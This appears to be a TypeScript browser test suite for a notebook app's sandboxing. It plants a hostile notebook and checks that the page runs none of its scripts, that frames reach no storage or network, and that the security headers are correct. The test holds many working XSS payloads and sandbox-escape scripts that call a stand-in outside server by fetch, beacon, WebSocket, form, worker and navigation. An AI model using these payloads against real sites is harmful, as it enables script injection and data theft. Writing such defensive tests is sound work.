// A notebook from a stranger: whatever its outputs, notes and replies contain, none of it runs in the page,
// and what runs in a frame reaches neither the page nor storage nor the network.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Leaf, Result } from '../../shared/notebook/notebook.ts'
import { App, type Person } from '../support/app.ts'
import { notebookFile } from '../support/notebook-file.ts'
import { PackageServer } from '../support/package-server.ts'
import { soon } from '../support/soon.ts'

const mark = 'document.documentElement.dataset.hacked = "yes"; window.hacked = true'

const result = (outputs: readonly Leaf[], reply: string | null = null): { readonly result: Result } => ({
  result: {
    run: null,
    count: 1,
    status: 'done',
    outputs: outputs.map((leaf) => ({ live: false, leaf })),
    reply,
    thinking: null,
    calls: [],
  },
})
const display = (data: { readonly [mime: string]: Leaf }): Leaf => ({
  output_type: 'display_data',
  data,
  metadata: {},
})

/** Counts its requests, and its connections even without a request. */
let outside: Server
let elsewhere = ''
let requests = 0
let called = 0
/** The server the relay would fetch packages from. */
let upstream: PackageServer
let app: App
let reader: Person

beforeAll(async () => {
  outside = createServer((_request, response) => {
    requests++
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.end('secret')
  })
  outside.on('connection', () => called++)
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve))
  elsewhere = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
  const probe = `<p id="ran">no</p><script>
    const tries = {
      origin: () => self.origin,
      parent: () => parent.document.title,
      top: () => { top.location.href = '${elsewhere}/top'; return 'asked' },
      storage: () => localStorage.length,
      cookies: () => document.cookie,
      database: () => { indexedDB.open('x'); return 'opened' },
    }
    const found = {}
    for (const [name, action] of Object.entries(tries)) {
      try { found[name] = String(action()) } catch (error) { found[name] = 'refused' }
    }
    const image = new Image()
    image.src = '${elsewhere}/image'
    fetch('${elsewhere}/fetch').then(() => 'answered', () => 'refused').then((fetched) =>
      fetch('/api/notebooks').then(() => 'answered', () => 'refused').then((api) => {
        document.querySelector('#ran').textContent = JSON.stringify({ ...found, fetched, api })
      }))
  </script>`
  const attacks = [
    `<img src="x" onerror='${mark}'>`,
    `<svg onload='${mark}'></svg>`,
    `<iframe srcdoc="<script>parent.${mark}</script>"></iframe>`,
    `<a href="javascript:${encodeURIComponent(mark)}">link</a>`,
    `<style>body { display: none }</style>`,
    `![picture](${elsewhere}/markdown)`,
  ].join('\n\n')
  upstream = await PackageServer.open()
  const files = {
    'sent.ipynb': notebookFile(
      ['note', `# Sent\n\n${attacks}`],
      ['code', 'html', result([display({ 'text/html': probe })])],
      ['code', 'attacks', result([display({ 'text/html': attacks }), display({ 'text/markdown': attacks })])],
      [
        'code',
        'svg',
        result([
          display({
            'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg"><script>parent.${mark}</script></svg>`,
          }),
        ]),
      ],
      ['code', 'script', result([display({ 'application/javascript': `parent.${mark}` })])],
      [
        'code',
        'text',
        result([{ output_type: 'stream', name: 'stdout', text: [`<script>${mark}</script>\n`] }]),
      ],
      ['code', 'latex', result([display({ 'text/latex': `$\\href{javascript:${mark}}{x}$` })])],
      ['prompt', 'and?', result([], attacks)],
    ),
  }
  app = await App.start(files, {}, { packages: upstream.settings })
  reader = await app.writer('sent.ipynb')
  await reader.until('sync', 'saved')
})
afterAll(async () => {
  await app.close()
  await upstream.close()
  await new Promise((resolve) => outside.close(resolve))
})

describe('a hostile notebook', () => {
  test('runs scripts only in a frame without an origin, access to the page, storage or network', async () => {
    await reader.output(2).locator('iframe').waitFor()
    const ran = reader.output(2).frameLocator('iframe').locator('#ran')
    await expect.poll(() => ran.textContent(), soon).not.toBe('no')
    expect(JSON.parse((await ran.textContent()) ?? '')).toMatchObject({
      origin: 'null',
      parent: 'refused',
      storage: 'refused',
      cookies: 'refused',
      database: 'refused',
      fetched: 'refused',
      api: 'refused',
    })
    expect(new URL(reader.page.url()).origin).toBe(app.origin)
  })

  test('runs nothing in the page itself and requests nothing from other servers', async () => {
    for (let position = 1; position <= 8; position++) {
      await reader.cell(position).scrollIntoViewIfNeeded()
      if (position > 1 && position < 8) await reader.output(position).waitFor()
    }
    await reader.reply(8).waitFor()
    for (const link of await reader.page.locator('nb-notebook a').all())
      expect((await link.getAttribute('href')) ?? 'https:').toMatch(/^(https?:|mailto:|$)/)
    expect(await reader.page.evaluate(() => document.documentElement.dataset['hacked'] ?? 'no')).toBe('no')
    expect(await reader.page.evaluate(() => 'hacked' in window)).toBe(false)
    expect(await reader.page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none')
    expect(requests).toBe(0)
  })

  test('cannot leave its frame by navigation, window, form, worker, link or message', async () => {
    const ways = {
      'its own address': `location.href = '${elsewhere}/address'`,
      'the page in it': `location.href = '/notebook/sent.ipynb'`,
      'a frame that may reach more': `location.href = '/frame/open.html?host=${new URL(elsewhere).host}'`,
      'the api in it': `location.href = '/api/notebooks'`,
      'an index page': `location.href = '/pypi/simple/evil/'`,
      'a package': `location.href = '/pyodide/packages/evil-1.0-py3-none-any.whl'`,
      'a page of the relay that is none of its frames': `location.href = '/healthz'`,
      'a refresh': `document.head.innerHTML += '<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">'`,
      'a window': `window.open('${elsewhere}/window')`,
      'the top window': `window.open('${elsewhere}/top', '_top')`,
      'a form': `document.body.innerHTML += '<form id=f action="${elsewhere}/form"><input name=a value=b></form>'; f.submit()`,
      'a beacon': `navigator.sendBeacon('${elsewhere}/beacon', 'b')`,
      'a socket': `new WebSocket('${elsewhere.replace('http', 'ws')}/socket')`,
      'the relay’s socket': `new WebSocket('${app.origin.replace('http', 'ws')}/sync/sent.ipynb')`,
      'an event source': `new EventSource('${elsewhere}/events')`,
      links: `for (const rel of ['prefetch', 'preconnect', 'stylesheet', 'icon', 'modulepreload', 'preload', 'manifest'])
        document.head.append(Object.assign(document.createElement('link'), { rel, as: 'image', href: '${elsewhere}/' + rel }))`,
      'a frame': `document.body.append(Object.assign(document.createElement('iframe'), { src: '${elsewhere}/frame' }))`,
      'a written frame': `document.body.append(Object.assign(document.createElement('iframe'), {
        srcdoc: '<script>fetch("${elsewhere}/srcdoc"); new Image().src = "${elsewhere}/srcdoc"</scr' + 'ipt>' }))`,
      'a worker': `new Worker(URL.createObjectURL(new Blob(['fetch("${elsewhere}/worker")'])))`,
      'a module': `import('${elsewhere}/module.js')`,
      'a picture by style': `document.body.style.background = 'url(${elsewhere}/style)'`,
      'a font': `new FontFace('f', 'url(${elsewhere}/font)').load().catch(() => 0)`,
      media: `new Audio('${elsewhere}/audio').play().catch(() => 0)`,
      'a dialog': `alert('x'); confirm('x'); print()`,
      'a download': `Object.assign(document.createElement('a'), { href: 'data:,x', download: 'x' }).click()`,
      'a huge height': `parent.postMessage({ type: 'nb-size', height: 1e9 }, '*')`,
      'nonsense to the page': `for (const word of [null, 5, {}, { type: 'nb-ready' }, { type: 'nb-show' }]) parent.postMessage(word, '*')`,
    }
    const cells = Object.entries(ways).map(
      ([way, script]) =>
        [
          'code',
          way,
          result([
            display({
              'text/html': `<script>document.documentElement.dataset.ran = 'yes';${script}</script>`,
            }),
          ]),
        ] as const,
    )
    await app.create('ways.ipynb', notebookFile(...cells, ['code', '"the end"']))
    const visitor = await app.person('ways.ipynb')
    const { page } = visitor
    const heard: string[] = []
    page.on('dialog', (dialog) => heard.push(`dialog ${dialog.message()}`))
    page.on('download', (download) => heard.push(`download ${download.suggestedFilename()}`))
    const navigated: string[] = []
    page.on('request', (request) => {
      if (request.isNavigationRequest() && request.frame() !== page.mainFrame()) navigated.push(request.url())
    })
    visitor.context.on('page', (other) => heard.push(`window ${other.url()}`))
    await visitor.until('sync', 'saved')
    for (const position of cells.keys()) {
      await visitor.cell(position + 1).scrollIntoViewIfNeeded()
      await visitor
        .output(position + 1)
        // By now, a frame that said again and again that it is ready has been stopped.
        .locator('iframe, .nb-frame .nb-notice')
        .waitFor({ state: 'attached' })
    }
    const running = async (): Promise<number> => {
      const words = page
        .frames()
        .map((frame) => frame.evaluate(() => document.documentElement.dataset['ran']).catch(() => undefined))
      return (await Promise.all(words)).filter((word) => word === 'yes').length
    }
    // Frames that navigated show the browser's error page instead, and two were stopped.
    await expect.poll(running, soon).toBeGreaterThan(cells.length - 10)
    // By the time Python has started and run a cell, any request would have arrived.
    await visitor.into(cells.length + 1)
    await page.keyboard.press('Control+Enter')
    await visitor.cellIs(cells.length + 1, 'done')
    expect(heard).toEqual([])
    expect({ requests, called }).toEqual({ requests: 0, called: 0 })
    expect(upstream.requests).toEqual([])
    expect(
      navigated.filter(
        (url) => !/\/frame\/strict\.html$|\/frame\/open\.html\?|\/kernel\/frame\.html$|^about:/.test(url),
      ),
    ).toEqual([])
    expect(page.url()).toBe(`${app.origin}/notebook/ways.ipynb`)
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
    const heights = await page
      .locator('.nb-frame')
      .evaluateAll((frames) => frames.map((frame) => frame.getBoundingClientRect().height))
    expect(Math.max(...heights)).toBeLessThanOrEqual(20_000)
    await visitor.type(cells.length + 1, ' # goes on')
    await visitor.until('sync', 'saved')
    await visitor.context.close()
  })

  test('is served under the intended security headers', async () => {
    const policy = async (path: string): Promise<string | null> =>
      (await fetch(app.origin + path)).headers.get('content-security-policy')
    const frames = `${app.origin}/frame/strict.html ${app.origin}/frame/open.html ${app.origin}/kernel/frame.html ${app.origin}/service-worker.js`
    expect(await policy('/notebook/sent.ipynb')).toBe(
      "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self' blob:; " +
        `style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; connect-src 'self'; frame-src ${frames}; ` +
        "form-action 'none'; base-uri 'none'; frame-ancestors 'none'",
    )
    const frame = (await policy('/frame/strict.html')) ?? ''
    expect(frame.startsWith("sandbox allow-scripts; default-src 'none'; ")).toBe(true)
    expect(frame).toContain("connect-src 'none'")
    expect(frame).not.toContain('https:')
    const kernel = (await policy('/kernel/frame.html')) ?? ''
    expect(kernel.startsWith("sandbox allow-scripts; default-src 'none'; ")).toBe(true)
    expect(await policy('/api/notebooks')).toBe('sandbox')
    for (const path of ['/', '/frame/strict.html', '/kernel/frame.html', '/api/notebooks', '/healthz']) {
      const { headers } = await fetch(app.origin + path)
      expect(headers.get('cross-origin-embedder-policy')).toBe('credentialless')
      expect(headers.get('x-content-type-options')).toBe('nosniff')
      expect(headers.get('referrer-policy')).toBe('no-referrer')
      expect(headers.get('cross-origin-resource-policy')).toBe('same-origin')
    }
  })
})
